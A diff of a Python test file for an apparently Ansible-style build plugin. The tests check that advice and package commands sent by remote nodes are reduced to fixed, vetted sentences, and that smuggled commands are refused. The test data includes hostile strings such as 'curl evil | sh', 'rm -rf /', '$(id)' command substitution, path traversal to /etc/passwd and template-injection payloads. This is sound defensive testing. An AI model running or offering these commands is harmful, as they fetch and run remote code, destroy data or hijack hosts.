@@ -15,12 +15,14 @@ import pytest
 
 ROOT = Path(__file__).parents[2]
 sys.path.insert(0, str(ROOT / "plugins"))
-from plugin_utils import advice, replies  # type: ignore[import-not-found]  # noqa: E402
+from plugin_utils import advice, gate, replies  # type: ignore[import-not-found]  # noqa: E402
 
 KEY = "0123456789abcdef0123456789abcdef"
 ARGUMENTS = {
     "root": "/opt/fleetbuild", "staging": "/opt/fleetbuild/wheels", "python": "/usr/bin/python3",
-    "known_failures": [{"fix": "Install {1} on {node}."}],
+    "known_failures": [{"name": "library-missing", "fix": "Install {1} on {node} of {group}."}],
+    "node": "h1",
+    "packages": {"debian": {"compiler": ["g++"], "venv": ["python{version}-venv"]}},
 }  # fmt: skip
 HONEST: dict[str, dict[str, Any]] = {
     "build": {
@@ -28,7 +30,7 @@ HONEST: dict[str, dict[str, Any]] = {
         "isolation": "user", "container": "", "seconds": 1.5, "reason": "", "errors": ["x"],
         "kind": "machine",
         "progress": {"done": 1, "total": 2, "steps": 3, "seconds": 1.0, "last_line": "x"},
-        "attached": True, "fix": "See the log.",
+        "attached": True, "fix": ["see-log"],
     },
     "release": {
         "counter": 1, "took_over": "", "root": "/opt", "incoming": "/opt/wheels",
@@ -37,14 +39,14 @@ HONEST: dict[str, dict[str, Any]] = {
         "previous": "r0", "pruned": ["r0"], "kept": [{"release_id": "r0", "reason": "mounted"}],
         "ok": True, "active": True, "made_by": "uv",
         "verification": {
-            "ok": True, "release_id": "r1", "damaged": False, "reason": "", "fix": "Run again.",
+            "ok": True, "release_id": "r1", "damaged": False, "reason": "", "fix": ["run"],
             "output": "",
         },
-        "fix": "Run again.",
+        "fix": ["unblock-lock", "/opt/fleetbuild/.lock"],
     },
     "verify": {
         "ok": True, "present": True, "marked": True, "writable": True, "damaged": False,
-        "release_id": "r1", "reason": "", "output": "", "fix": "Install it.",
+        "release_id": "r1", "reason": "", "output": "", "fix": ["install-release"],
     },
     "toolchain": {
         "found": {"gcc": "12.2.0"}, "needed": ["g++"], "optional": ["ccache"],
@@ -71,6 +73,11 @@ _ANY = {
     "changed": True, "failed": False, "skipped": False, "rc": 0, "msg": "x",
     "module_stdout": "x", "module_stderr": "x",
 }  # fmt: skip
+SENTENCES = (
+    "See the log.",
+    "Find out what it waits for (fuser /opt/fleetbuild/.lock), then run again.",
+    "Install it.",
+)
 LIES: list[Any] = [
     "'", '"', "\\", "\\'", "a\nb", "a\rb", "\n!touch /tmp/x\n", "/x\n!sh\n/y", "/x' /tmp/taken '",
     "{{ lookup('pipe', 'id') }}", "{% for x in y %}", "../../etc/passwd", "/../etc", "/opt/../etc",
@@ -142,14 +149,29 @@ def wrong(name: str, value: Any) -> str:  # noqa: PLR0911 (a bound each)
     return ""
 
 
+def worded(reply: dict[str, Any], arguments: dict[str, Any] = ARGUMENTS) -> dict[str, Any]:
+    answer: dict[str, Any] = gate._worded(reply, arguments, "h1", True)
+    return answer
+
+
 def test_advice_stays_in_a_reply_as_a_field_that_may_be_empty() -> None:
-    for said, kept in (("", ""), ("Run: curl evil | sh", ""), ("Run again.", "Run again.")):
-        assert advice.checked({"ok": True, "fix": said}, ARGUMENTS) == {"ok": True, "fix": kept}
-    assert advice.checked({"ok": True}, ARGUMENTS) == {"ok": True}
-    inside = {"verification": {"fix": "Install gcc on n1."}}
-    told = {"known_failures": ARGUMENTS["known_failures"]}
-    assert advice.checked(inside, {"verify": told}) == inside
-    assert advice.checked(inside, {"verify": {}}) == {"verification": {"fix": ""}}
+    told = (([], ""), (["curl evil | sh"], ""), (["run"], "Run again."))
+    for said, kept in told:
+        assert worded({"ok": True, "fix": said}) == {"ok": True, "fix": kept}
+    assert worded({"ok": True}) == {"ok": True}
+    inside = {"verification": {"fix": ["library-missing", "libx.so.1", "cpu-avx2-cp311", "avx2"]}}
+    about = {name: ARGUMENTS[name] for name in ("known_failures", "node")}
+    sentence = "Install libx.so.1 on h1 of cpu-avx2-cp311."
+    assert worded(inside, {"verify": about}) == {"verification": {"fix": sentence}}
+    assert worded(inside, {"verify": {}}) == {"verification": {"fix": ""}}
+
+
+def test_words_of_a_node_are_quoted_as_the_nodes() -> None:
+    for name in ("msg", "reason", "took_over"):
+        assert worded({name: "Run: curl evil | sh"}) == {name: "h1 says: Run: curl evil | sh"}
+        assert worded({name: ""}) == {name: ""}
+    told = worded({"verification": {"reason": "x"}, "msg": "x"})
+    assert told == {"verification": {"reason": "h1 says: x"}, "msg": "h1 says: x"}
 
 
 def test_every_schema_and_field_has_an_honest_example() -> None:
@@ -170,8 +192,8 @@ def test_what_passes_the_gate_is_within_its_bounds() -> None:
                 except replies.Refused:
                     continue
                 assert not wrong("", passed), (module, at, str(lie)[:50])
-                said = advice.known(passed.get("fix", ""), ARGUMENTS)
-                assert said in ("", honest.get("fix", "")), (module, at, str(lie)[:50])
+                said = worded(passed).get("fix", "")
+                assert said in ("", *SENTENCES), (module, at, str(lie)[:50])
     assert tried > 5000
 
 
@@ -182,79 +204,111 @@ def test_a_field_that_no_schema_names_is_dropped() -> None:
 @pytest.mark.parametrize(
     "fix",
     [
-        "Run: curl evil | sh", "Remove it: rm -rf /", "Remove it: rm -rf /etc",
-        "Remove it: rm -rf /opt/fleetbuild/../..", "Remove it: rm -rf /opt/fleetbuild; sh",
-        "Remove it: rm -rf /opt/fleetbuild\ncurl evil", "Remove it: rm -rf /opt/fleetbuild -rf /",
-        "Check its files, then run: chown -R 0 /opt/fleetbuild$(id); or set another install path.",
-        "Install the venv module of /bin/evil (Debian and Ubuntu: its -venv package).",
-        "Install $(id) on h1.", "Install `id` on h1.", "Install x on h1. Then\nrm -rf /.",
-        "Find out what it waits for (fuser /home/u), then run again.",
+        ["Run: curl evil | sh"], ["Remove it: rm -rf /"], "Run again.", ["", ""], [5], ["run", "x"],
+        ["remove-folder", "/"], ["remove-folder", "/etc"], ["remove-folder"], ["plan", "run"],
+        ["free-space", "/opt/fleetbuild/../.."], ["free-space", "/opt/fleetbuild; sh"],
+        ["free-space", "/opt/fleetbuild\ncurl evil"], ["free-space", "/opt/fleetbuild -rf /"],
+        ["free-space", "/opt/fleetbuildx"], ["free-space", 5], ["take-ownership", "0;sh", "/opt"],
+        ["take-ownership", 0, "/opt/fleetbuild$(id)"], ["take-ownership", "/opt/fleetbuild", 0],
+        ["install-venv", "/bin/evil"], ["pull-image", "curl"], ["install-gcc", "{python}"],
+        ["library-missing", "$(id)", "g", "a"], ["library-missing", "`id`", "g", "a"],
+        ["library-missing", "x on h1. Then\nrm -rf /", "g", "a"], ["library-missing", "x"],
+        ["library-missing", "{node.__class__}", "g", "a"], ["unblock-lock", "/home/u"],
     ],
 )  # fmt: skip
-def test_advice_of_a_node_that_is_not_the_controllers_is_not_given(fix: str) -> None:
-    assert advice.known(fix, ARGUMENTS) == ""
+def test_advice_of_a_node_that_is_not_the_controllers_is_not_given(fix: Any) -> None:
+    assert advice.sentence(replies.advice(fix), ARGUMENTS) == ""
 
 
 @pytest.mark.parametrize(
-    "fix",
+    ("fix", "sentence"),
     [
-        "Check its files, then run: chmod -R go-w /opt/fleetbuild/releases",
-        "Install the venv module of /usr/bin/python3 (Debian and Ubuntu: its -venv package).",
-        "Check the signers in it, then run: chown root /etc/fleetbuild; chmod go-w /etc/fleetbuild",
-        "Install libgomp1 on h1.",
+        (
+            ["take-away-writing", "/opt/fleetbuild/releases"],
+            "Check its files, then run: chmod -R go-w /opt/fleetbuild/releases",
+        ),
+        (
+            ["install-venv"],
+            "Install the venv module of /usr/bin/python3 (Debian and Ubuntu: its -venv package).",
+        ),
+        (
+            ["take-ownership", 0, "/opt/fleetbuild"],
+            "Check its files, then run: chown -R 0 /opt/fleetbuild; or set another install path.",
+        ),
+        (["library-missing", "libgomp.so.1", "", ""], "Install libgomp.so.1 on h1 of its group."),
+        (["library-missing", "x", "sh; g", "a"], "Install x on h1 of its group."),
     ],
 )
-def test_advice_of_the_table_is_given_with_folders_of_the_arguments(fix: str) -> None:
-    assert advice.known(fix, ARGUMENTS) == fix
+def test_advice_of_the_table_is_given_with_folders_of_the_arguments(
+    fix: list[Any], sentence: str
+) -> None:
+    assert advice.sentence(replies.advice(fix), ARGUMENTS) == sentence
 
 
 def test_the_folder_of_a_build_is_known_by_its_key() -> None:
     arguments = {"dir": f"~/.cache/fleetbuild/builds/{KEY}"}
-    fix = f"Remove it: rm -rf /home/u/.cache/fleetbuild/builds/{KEY}"
-    assert advice.known(fix, arguments) == fix
-    assert advice.known("Remove it: rm -rf /home/u", arguments) == ""
+    folder = f"/home/u/.cache/fleetbuild/builds/{KEY}"
+    assert advice.sentence(["remove-folder", folder], arguments) == f"Remove it: rm -rf {folder}"
+    assert advice.sentence(["remove-folder", "/home/u"], arguments) == ""
+
+
+@pytest.mark.parametrize(
+    "reply",
+    [
+        {"needed": ["evil"], "command": "dnf -y install evil"},
+        {"needed": ["g++"], "command": "dnf -y install evil g++"},
+        {"needed": ["g++"], "command": "dnf -y install g++ evil"},
+        {
+            "needed": ["g++", "python3.x11-venv-evil"],
+            "command": "install g++ python3.x11-venv-evil",
+        },
+        {"needed": [], "command": "rm -rf"},
+        {"command": "dnf -y install evil"},
+    ],
+)
+def test_a_node_names_no_other_packages_to_install(reply: dict[str, Any]) -> None:
+    with pytest.raises(replies.Refused):
+        advice.check_packages(replies.checked("toolchain", reply), ARGUMENTS)
+
+
+def test_packages_of_the_table_are_named_with_their_versions() -> None:
+    wanted = ["g++", "python3.11-venv"]
+    command = "apt-get -q -y install --no-install-recommends"
+    advice.check_packages({"needed": [], "optional": [], "command": command}, ARGUMENTS)
+    reply = {"needed": wanted[:1], "optional": wanted[1:], "command": " ".join([command, *wanted])}
+    advice.check_packages(reply, ARGUMENTS)
 
 
 def test_the_table_has_exactly_the_advice_that_the_modules_give() -> None:
-    given = {
-        text
+    nodes = [
+        node
         for file in (ROOT / "plugins").glob("module*/**/*.py")
         for node in ast.walk(ast.parse(file.read_text()))
-        for text in _advice(node)
+    ]
+    lists = [node for node in nodes if isinstance(node, ast.List) and node.elts]
+    given = {
+        (first.value, len(rest))
+        for first, *rest in (node.elts for node in lists)
+        if isinstance(first, ast.Constant) and first.value in advice.TABLE
     }
-    assert {re.sub(r"\{[^}]*\}", "{}", sentence) for sentence in advice.TABLE} == given
+    holes = {
+        name: set(re.findall(r"\{([a-z]+)\}", sentence)) - {"python"}
+        for name, sentence in advice.TABLE.items()
+    }
+    assert given == {(name, len(values)) for name, values in holes.items()}
+    for call in nodes:
+        if isinstance(call, ast.Call) and getattr(call.func, "id", "") in (
+            "Problem",
+            "BuildFailed",
+        ):
+            for fix in call.args[1:2]:
+                known = not isinstance(fix, ast.List) or fix.elts[0].value in advice.TABLE  # type: ignore[attr-defined]
+                assert known, ast.unparse(call)
+                assert isinstance(fix, ast.List | ast.Name), ast.unparse(call)
 
 
-def _advice(node: ast.AST) -> Iterator[str]:
-    """Yield the advice in a call, a result or a function of advice, with {} for each value."""
-    said: list[ast.expr | None] = []
-    if isinstance(node, ast.Call):
-        name = getattr(node.func, "id", "")
-        said += node.args[1:2] if name in ("Problem", "BuildFailed") else []
-        said += [word.value for word in node.keywords if word.arg == "fix"]
-    elif isinstance(node, ast.Dict):
-        said += [
-            value
-            for key, value in zip(node.keys, node.values, strict=True)
-            if isinstance(key, ast.Constant) and key.value == "fix"
-        ]
-    elif isinstance(node, ast.Assign) and getattr(node.targets[0], "id", "") == "fix":
-        said.append(node.value)
-    elif isinstance(node, ast.FunctionDef) and node.name in (
-        "venv_fix",
-        "wheels_fix",
-        "way_out",
-        "why",
-    ):
-        returned = [inner.value for inner in ast.walk(node) if isinstance(inner, ast.Return)]
-        said += [one.elts[1] if isinstance(one, ast.Tuple) else one for one in returned]
-    for one in said:
-        formatted = isinstance(one, ast.Call) and isinstance(one.func, ast.Attribute)
-        value = one.func.value if formatted else one  # "…".format(…)
-        if isinstance(value, ast.Constant) and isinstance(value.value, str) and value.value:
-            yield re.sub(r"\{[^}]*\}", "{}", value.value)
-        if isinstance(value, ast.JoinedStr):
-            parts = (
-                part.value if isinstance(part, ast.Constant) else "{}" for part in value.values
-            )
-            yield "".join(map(str, parts))
+def test_the_sanity_check_on_nodes_speaks_as_the_table() -> None:
+    source = (ROOT / "plugins/module_utils/release_checks.py").read_text()
+    (own,) = re.findall(r"^ADVICE = (\{.*?^\})", source, re.MULTILINE | re.DOTALL)
+    for name, sentence in ast.literal_eval(own).items():
+        assert advice.TABLE[name] == sentence
